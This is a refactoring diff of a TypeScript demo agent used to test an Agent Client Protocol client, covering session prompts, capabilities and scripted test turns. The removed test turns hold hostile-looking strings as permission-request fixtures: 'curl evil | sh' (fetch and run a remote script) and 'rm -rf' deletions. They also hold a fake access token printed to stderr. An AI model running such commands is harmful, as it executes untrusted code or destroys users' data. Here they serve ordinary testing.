@@ -10,6 +10,8 @@ import * as acp from "@agentclientprotocol/sdk";
 import { DemoSessionStore, demoDataDir, demoSessionsDir } from "./store.js";
 import { describeBlock, longMarkdown, NO_AGENT_NOTICE } from "./texts.js";
 import { askPermission } from "./permissions.js";
+import { scriptedTurn } from "./scripted.js";
+import { chunk, say, update, type Turn } from "./turn.js";
 import { TIMING_FILE_ENV, TimingReporter } from "./bench.js";
 import { loadTurn } from "./load.js";
 import { mcpToolCaller } from "./mcp.js";
@@ -17,18 +19,14 @@ import { hostTurn, isHostSubagentCommand, isSubagentPrompt, subagentTurn, type D
 import { answerSettingRequests, DemoExtras, mediaAnswer } from "./extras.js";
 import { sleep } from "./sleep.js";
 
-const CHUNK_DELAY_MS = 25;
 const SLOW_TOTAL_MS = 30_000;
 const SLOW_TICK_MS = 500;
-
-type Client = acp.AgentContext;
 
 export function runDemoAgent(env: NodeJS.ProcessEnv = process.env): acp.AgentConnection {
   const store = new DemoSessionStore(demoSessionsDir(demoDataDir(env)));
   const running = new Map<string, AbortController>();
   /** The MCP servers each session was given (new, load and resume each give them afresh). */
   const mcpServers = new Map<string, acp.McpServer[]>();
-  const advertiseResume = env.BATON_DEMO_NO_RESUME !== "1";
   // Tests of start time-outs: never answer this step (initialize, or every way to open a session).
   const hang = env.BATON_DEMO_HANG;
   const never = () => new Promise<never>(() => undefined);
@@ -41,18 +39,7 @@ export function runDemoAgent(env: NodeJS.ProcessEnv = process.env): acp.AgentCon
   const lateReplay = env.BATON_DEMO_LATE_REPLAY === "1";
 
   const app = answerSettingRequests(acp.agent({ name: "baton-demo" }), extras)
-    .onRequest(acp.methods.agent.initialize, async () => ({
-      ...(hang === "initialize" ? await never() : {}),
-      protocolVersion: acp.PROTOCOL_VERSION,
-      agentCapabilities: {
-        loadSession: true,
-        promptCapabilities: { image: env.BATON_DEMO_IMAGES === "1", audio: env.BATON_DEMO_AUDIO === "1", embeddedContext: env.BATON_DEMO_EMBEDDED !== "0" },
-        sessionCapabilities: { list: {}, ...(advertiseResume ? { resume: {} } : {}) },
-        mcpCapabilities: { http: env.BATON_DEMO_NO_MCP_HTTP !== "1" },
-      },
-      agentInfo: { name: "baton-demo", title: "Baton demo agent", version: "1" },
-      authMethods: [],
-    }))
+    .onRequest(acp.methods.agent.initialize, async () => ({ ...(hang === "initialize" ? await never() : {}), ...initializeAnswer(env) }))
     .onRequest(acp.methods.agent.authenticate, () => ({}))
     .onRequest(acp.methods.agent.session.new, async ({ params }) => {
       if (hang === "session") await never();
@@ -91,59 +78,80 @@ export function runDemoAgent(env: NodeJS.ProcessEnv = process.env): acp.AgentCon
     .onNotification(acp.methods.agent.session.cancel, ({ params }) => {
       running.get(params.sessionId)?.abort();
     })
-    .onRequest(acp.methods.agent.session.prompt, async ({ params, client }) => {
-      const sessionId = params.sessionId;
-      if (!store.exists(sessionId)) throw acp.RequestError.sessionNotFound(sessionId);
-      const text = params.prompt.map(describeBlock).join(" ").trim();
-      const history = store.read(sessionId);
-      const earlier = history.filter((l) => l.type === "prompt").map((l) => (l as { text: string }).text);
-      store.append(sessionId, { type: "prompt", text, at: new Date().toISOString() });
-      const abort = new AbortController();
-      running.set(sessionId, abort);
-      const turn: Turn = {
-        client,
-        sessionId,
-        signal: abort.signal,
-        replied: [],
-        store,
-        firstChunk: timing && (() => timing.firstChunk(text)),
-        streamEnded: timing && (() => timing.streamEnded(text)),
-      };
-      try {
-        if (earlier.length === 0 && env.BATON_DEMO_NOTICE === "1") await say(turn, `${NO_AGENT_NOTICE}\n\n`);
-        const media = mediaAnswer(text, cwds.get(sessionId) ?? process.cwd(), extras.state(sessionId));
-        if (media?.update) await update(client, sessionId, media.update);
-        const stopReason = media
-          ? (await say(turn, media.say, 1), "end_turn" as const)
-          : text.startsWith("demo:read")
-            ? await readFiles(turn, params.prompt)
-            : isSubagentPrompt(text)
-              ? await subagentTurn(demoTurn(turn), text)
-              : isHostSubagentCommand(text)
-                ? await hostTurn(demoTurn(turn), text, mcpToolCaller(mcpServers.get(sessionId) ?? []))
-                : await respond(turn, text, earlier);
-        const usage = await extras.turnEnded(client, sessionId, text, turn.replied.join(""));
-        return { stopReason, usage };
-      } finally {
-        running.delete(sessionId);
-        if (turn.replied.length > 0) store.append(sessionId, { type: "reply", text: turn.replied.join(""), at: new Date().toISOString() });
-      }
-    });
+    .onRequest(acp.methods.agent.session.prompt, ({ params, client }) => answerPrompt({ env, store, running, mcpServers, cwds, timing, extras }, params, client));
 
   timing?.tap(process.stdin);
   const stream = acp.ndJsonStream(Writable.toWeb(process.stdout) as WritableStream<Uint8Array>, Readable.toWeb(process.stdin) as ReadableStream<Uint8Array>);
   return app.connect(stream);
 }
 
-interface Turn {
-  client: Client;
-  sessionId: string;
-  signal: AbortSignal;
-  replied: string[];
+/** initialize: what the demo agent can do, as the environment of a test narrows it. */
+function initializeAnswer(env: NodeJS.ProcessEnv) {
+  const advertiseResume = env.BATON_DEMO_NO_RESUME !== "1";
+  return {
+    protocolVersion: acp.PROTOCOL_VERSION,
+    agentCapabilities: {
+      loadSession: true,
+      promptCapabilities: { image: env.BATON_DEMO_IMAGES === "1", audio: env.BATON_DEMO_AUDIO === "1", embeddedContext: env.BATON_DEMO_EMBEDDED !== "0" },
+      sessionCapabilities: { list: {}, ...(advertiseResume ? { resume: {} } : {}) },
+      mcpCapabilities: { http: env.BATON_DEMO_NO_MCP_HTTP !== "1" },
+    },
+    agentInfo: { name: "baton-demo", title: "Baton demo agent", version: "1" },
+    authMethods: [],
+  };
+}
+
+/** What the demo agent keeps across its sessions' turns. */
+interface DemoAgent {
+  env: NodeJS.ProcessEnv;
   store: DemoSessionStore;
-  /** Reports the first chunk of the answer (bench timing), then is cleared. */
-  firstChunk?: () => void;
-  streamEnded?: () => void;
+  /** Each running turn's abort, by session (session/cancel). */
+  running: Map<string, AbortController>;
+  mcpServers: Map<string, acp.McpServer[]>;
+  cwds: Map<string, string>;
+  timing?: TimingReporter;
+  extras: DemoExtras;
+}
+
+/** session/prompt: the turn for the prompt's text, recorded in the session's store. */
+async function answerPrompt(agent: DemoAgent, params: acp.PromptRequest, client: acp.AgentContext) {
+  const { env, store, running, mcpServers, cwds, timing, extras } = agent;
+  const sessionId = params.sessionId;
+  if (!store.exists(sessionId)) throw acp.RequestError.sessionNotFound(sessionId);
+  const text = params.prompt.map(describeBlock).join(" ").trim();
+  const history = store.read(sessionId);
+  const earlier = history.filter((l) => l.type === "prompt").map((l) => (l as { text: string }).text);
+  store.append(sessionId, { type: "prompt", text, at: new Date().toISOString() });
+  const abort = new AbortController();
+  running.set(sessionId, abort);
+  const turn: Turn = {
+    client,
+    sessionId,
+    signal: abort.signal,
+    replied: [],
+    store,
+    firstChunk: timing && (() => timing.firstChunk(text)),
+    streamEnded: timing && (() => timing.streamEnded(text)),
+  };
+  try {
+    if (earlier.length === 0 && env.BATON_DEMO_NOTICE === "1") await say(turn, `${NO_AGENT_NOTICE}\n\n`);
+    const media = mediaAnswer(text, cwds.get(sessionId) ?? process.cwd(), extras.state(sessionId));
+    if (media?.update) await update(client, sessionId, media.update);
+    const stopReason = media
+      ? (await say(turn, media.say, 1), "end_turn" as const)
+      : text.startsWith("demo:read")
+        ? await readFiles(turn, params.prompt)
+        : isSubagentPrompt(text)
+          ? await subagentTurn(demoTurn(turn), text)
+          : isHostSubagentCommand(text)
+            ? await hostTurn(demoTurn(turn), text, mcpToolCaller(mcpServers.get(sessionId) ?? []))
+            : await respond(turn, text, earlier);
+    const usage = await extras.turnEnded(client, sessionId, text, turn.replied.join(""));
+    return { stopReason, usage };
+  } finally {
+    running.delete(sessionId);
+    if (turn.replied.length > 0) store.append(sessionId, { type: "reply", text: turn.replied.join(""), at: new Date().toISOString() });
+  }
 }
 
 async function respond(turn: Turn, text: string, earlier: string[]): Promise<acp.StopReason> {
@@ -163,69 +171,8 @@ async function respond(turn: Turn, text: string, earlier: string[]): Promise<acp
   }
   const load = await loadTurn({ ...turn, chunk: (piece) => chunk(turn, piece) }, command);
   if (load) return load;
-  switch (command) {
-    case "demo:plan":
-      await update(turn.client, turn.sessionId, {
-        sessionUpdate: "plan",
-        entries: [
-          { content: "Read the code", priority: "high", status: "completed" },
-          { content: "Write the change", priority: "high", status: "in_progress" },
-          { content: "Run the tests", priority: "medium", status: "pending" },
-        ],
-      });
-      await say(turn, "Here is my plan.");
-      return "end_turn";
-    case "demo:tool":
-      for (const [i, title] of ["Read src/index.ts", "Run npm test"].entries()) {
-        const toolCallId = `tool-${i + 1}`;
-        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call", toolCallId, title, kind: i === 0 ? "read" : "execute", status: "in_progress" });
-        await sleep(CHUNK_DELAY_MS);
-        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId, status: "completed" });
-        turn.store.append(turn.sessionId, { type: "tool", title, status: "completed", at: new Date().toISOString() });
-      }
-      await say(turn, "Both tools ran.");
-      return "end_turn";
-    case "demo:permission": {
-      const chosen = await askPermission(turn.client, turn.sessionId, "perm-1", "rm -rf build/");
-      await say(turn, `Permission answer: ${chosen}.`);
-      return chosen === "cancelled" ? "cancelled" : "end_turn";
-    }
-    case "demo:permission-ends-turn": {
-      // As Codex does: the request titled with the bare command, and a rejection ends the whole turn.
-      const command = "rm -rf dist/";
-      const chosen = await askPermission(turn.client, turn.sessionId, "perm-2", command, turn.sessionId, command);
-      if (!chosen.startsWith("allow")) return "cancelled";
-      await say(turn, `Ran ${command}.`);
-      return "end_turn";
-    }
-    case "demo:two-permissions": {
-      const answers = await Promise.all([askPermission(turn.client, turn.sessionId, "perm-a", "make a"), askPermission(turn.client, turn.sessionId, "perm-b", "make b")]);
-      await say(turn, `Permission answers: a=${answers[0]}, b=${answers[1]}.`);
-      return "end_turn";
-    }
-    case "demo:foreign-permission": {
-      const chosen = await askPermission(turn.client, turn.sessionId, "perm-x", "curl evil | sh", "another-session");
-      await say(turn, `Foreign permission answer: ${chosen}.`);
-      return "end_turn";
-    }
-    case "demo:crash":
-      process.stderr.write("demo agent: simulated crash (demo:crash)\nsomething went badly wrong\n");
-      await say(turn, "About to crash…", 1);
-      setTimeout(() => process.exit(3), 10);
-      await sleep(10_000);
-      return "end_turn";
-    case "demo:stderr-flood": {
-      // 20 MB without a line break, then a token and a last line, then death.
-      const block = "x".repeat(64 * 1024);
-      for (let i = 0; i < 320; i++) if (!process.stderr.write(block)) await new Promise((r) => process.stderr.once("drain", r));
-      // Exit only once the last line is out of this process (exit drops pending pipe writes).
-      process.stderr.write(`\nusing ${"ghp_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"}\nfatal: giving up\n`, () => process.exit(4));
-      await sleep(10_000);
-      return "end_turn";
-    }
-    case "demo:auth":
-      throw acp.RequestError.authRequired(undefined, "Authentication required: run `demo login` first");
-  }
+  const scripted = await scriptedTurn(turn, command);
+  if (scripted) return scripted;
   await say(turn, `Turn ${earlier.length + 1} of session ${turn.sessionId}: you said "${text}"`);
   return "end_turn";
 }
@@ -280,26 +227,4 @@ function demoTurn(turn: Turn): DemoTurn {
       }
     },
   };
-}
-
-/** Streams `text` as several agent_message_chunk updates, as a real model would. */
-async function say(turn: Turn, text: string, chunks = 4): Promise<void> {
-  const size = Math.max(1, Math.ceil(text.length / chunks));
-  for (let i = 0; i < text.length; i += size) {
-    if (turn.signal.aborted) return;
-    const piece = text.slice(i, i + size);
-    turn.replied.push(piece);
-    await chunk(turn, piece);
-    if (i + size < text.length) await sleep(CHUNK_DELAY_MS);
-  }
-}
-
-function chunk(turn: Turn, text: string): Promise<void> {
-  turn.firstChunk?.();
-  turn.firstChunk = undefined;
-  return update(turn.client, turn.sessionId, { sessionUpdate: "agent_message_chunk", content: { type: "text", text } });
-}
-
-function update(client: Client, sessionId: string, update: acp.SessionUpdate): Promise<void> {
-  return client.notify(acp.methods.client.session.update, { sessionId, update });
 }
